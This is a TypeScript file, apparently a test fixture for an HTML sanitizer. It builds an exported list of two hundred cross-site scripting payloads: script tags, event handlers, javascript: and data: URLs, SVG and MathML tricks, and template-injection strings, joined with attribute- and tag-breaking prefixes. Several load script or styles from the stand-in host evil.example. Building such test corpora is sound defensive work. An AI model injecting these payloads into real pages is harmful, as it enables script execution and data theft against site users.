/** What runs a script where a text becomes markup: elements, handlers, addresses, foreign namespaces, templates. */
const vectors = [
  "<script>alert(1)</script>",
  "<script src=//evil.example></script>",
  "<ScRiPt>alert(1)</sCrIpT>",
  "<scr<script>ipt>alert(1)</scr</script>ipt>",
  "<script\n>alert(1)</script\n>",
  "<img src=x onerror=alert(1)>",
  "<img src=x onerror='alert(1)'/>",
  "<img/src=x/onerror=alert(1)>",
  '<img src="x` `<script>alert(1)</script>"` `>',
  "<svg onload=alert(1)>",
  "<svg/onload=alert(1)//",
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
  "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
  "<body onload=alert(1)>",
  "<iframe src=javascript:alert(1)></iframe>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<object data=javascript:alert(1)></object>",
  "<embed src=javascript:alert(1)>",
  "<a href=javascript:alert(1)>x</a>",
  "<a href='java\tscript:alert(1)'>x</a>",
  "<a href=data:text/html,<script>alert(1)</script>>x</a>",
  "<form action=javascript:alert(1)><input type=submit></form>",
  "<button formaction=javascript:alert(1)>x</button>",
  "<input autofocus onfocus=alert(1)>",
  "<details open ontoggle=alert(1)>x</details>",
  "<video><source onerror=alert(1)></video>",
  "<audio src=x onerror=alert(1)>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
  "<link rel=stylesheet href=//evil.example/x.css>",
  "<style>@import '//evil.example/x.css';</style>",
  "<base href=//evil.example/>",
  "<template><script>alert(1)</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
  "javascript:alert(1)",
  "{{constructor.constructor('alert(1)')()}}",
  "<%= alert(1) %>",
  "&lt;img src=x onerror=alert(1)&gt;",
] as const;

/** What ends the place that a text stands in: an element's text, an attribute, a script, a comment or a title. */
const endings = ["", '">', "'>", "</script>", "--></title></textarea>"] as const;

/** Two hundred texts each of which would run a script if it became markup anywhere. */
export const xssPayloads: readonly string[] = endings.flatMap((ending) =>
  vectors.map((vector) => ending + vector),
);
